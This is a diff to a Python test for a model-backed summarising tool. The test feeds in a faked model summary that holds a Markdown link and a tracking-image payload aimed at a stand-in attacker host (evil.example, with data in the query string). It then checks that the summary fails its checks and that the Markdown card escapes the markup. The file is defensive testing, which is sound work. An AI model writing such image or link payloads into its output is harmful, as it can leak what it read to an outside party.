@@ -13,6 +13,9 @@ from fakeserver import FakeOpenAI, chat_auto
 from runner import run
 from support import GOOD_DRAFT, corpus, ids_of, model_env
 
+from communique.export.text import to_markdown
+from communique.schema import Analysis
+
 BRIEF = str(EXAMPLES / "rabat-madrid-fr.txt")
 
 
@@ -23,7 +26,9 @@ def test_a_link_or_an_image_a_model_writes_is_inert_in_markdown(
     address can carry what the model read) and a link. Was: copied as they were, live in
     any Markdown viewer; raw HTML was already escaped. (The text holds the addresses: a
     summary that writes one the text does not hold is dropped since the twenty-eighth
-    reading, `backends/test_faults28.py`.)"""
+    reading, `backends/test_faults28.py`.) Since the fifty-eighth, a summary that writes
+    markup fails its checks and code writes the summaries; the card escapes what any
+    summary holds all the same (the second half: the record as the card receives it)."""
     page = tmp_path / "page.txt"
     page.write_text(
         Path(BRIEF).read_text(encoding="utf-8")
@@ -31,16 +36,26 @@ def test_a_link_or_an_image_a_model_writes_is_inert_in_markdown(
         encoding="utf-8",
     )
     draft = copy.deepcopy(GOOD_DRAFT)
-    draft["summary"]["en"] = (
+    linked = (
         "On Tuesday in Rabat, Abdelouafi Laftit met [Fernando Grande-Marlaska](http://evil.example/) "
         "on migration. ![](http://evil.example/pixel?q=Laftit) \\[escaped\\](x)"
     )
+    draft["summary"]["en"] = linked
     fake_openai.responder = lambda request: chat_auto(draft)
     result = run(
-        "summarise", str(page), "-f", "md", "--no-cache", env=model_env(fake_openai, COMMUNIQUE_MODE="tools")
+        "summarise",
+        str(page),
+        "-f",
+        "json",
+        "--no-cache",
+        env=model_env(fake_openai, COMMUNIQUE_MODE="tools"),
     )
     assert result.returncode == 0, result.stderr
-    card = result.stdout
+    record = Analysis.model_validate_json(result.stdout)
+    assert record.summary is not None and "evil.example" not in record.summary.en
+    card = to_markdown(
+        record.model_copy(update={"summary": record.summary.model_copy(update={"en": linked})})
+    )
     assert "](http" not in card.replace("\\](http", "")  # every bracket before an address escaped
     assert "\\[Fernando Grande-Marlaska\\](http://evil.example/)" in card
     assert "!\\[\\](http://evil.example/pixel?q=Laftit)" in card
